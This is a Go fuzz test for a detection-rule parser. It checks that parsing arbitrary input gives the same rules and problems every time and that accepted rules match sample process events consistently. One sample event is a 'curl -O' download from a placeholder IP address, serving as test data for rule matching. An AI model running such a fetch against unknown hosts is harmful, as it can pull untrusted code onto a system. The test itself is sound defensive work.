package rules

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/google/go-cmp/cmp"

	"bittern/internal/event"
)

// FuzzParse feeds any bytes: nothing may panic, the same file gives the same
// rules and problems, and rules that are accepted can be used.
func FuzzParse(f *testing.F) {
	paths, err := filepath.Glob(filepath.Join("testdata", "*.yml"))
	if err != nil {
		f.Fatal(err)
	}
	for _, path := range paths {
		data, err := os.ReadFile(path)
		if err != nil {
			f.Fatal(err)
		}
		if len(data) < 2048 {
			f.Add(data)
		}
	}
	events := []*event.Event{
		{},
		execOf(""),
		execOf("curl -O http://198.51.100.7/x"),
		{Class: event.ProcessExec, Process: event.Process{Executable: "/bin/\xff", Args: []string{"", "\xff"}, CommandLine: " \xff"}},
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		file := Parse("fuzz.yml", data, Options{Attack: fakeCatalogue{}})
		again := Parse("fuzz.yml", data, Options{Attack: fakeCatalogue{}})
		if diff := cmp.Diff(file.AllProblems(), again.AllProblems()); diff != "" || file.Complete != again.Complete {
			t.Fatalf("problems differ from one time to the next:\n%s", diff)
		}
		if !file.Complete && !file.AllProblems().Failed() {
			t.Error("the file is not complete, and no problem says so")
		}
		for i, d := range file.Documents {
			other := again.Documents[i]
			if (d.Rule == nil) != d.Problems.Failed() || d.RuleID != other.RuleID || (d.Rule == nil) != (other.Rule == nil) {
				t.Fatalf("document %d: %+v, %+v", i, d, other)
			}
			if d.Rule == nil {
				continue
			}
			if d.Rule.Hash != other.Rule.Hash || d.Rule.ID != d.RuleID || d.Rule.Version < 1 || len(d.Rule.plans) == 0 {
				t.Errorf("bad rule %+v", d.Rule)
			}
			for _, ev := range events {
				if d.Rule.Match(ev) != other.Rule.Match(ev) {
					t.Errorf("rule %s matches differently the second time", d.RuleID)
				}
			}
			d.Rule.RunTests()
		}
		for _, p := range file.AllProblems() {
			if p.Message == "" || p.Pos.File == "" {
				t.Errorf("problem without message or position: %+v", p)
			}
		}
	})
}
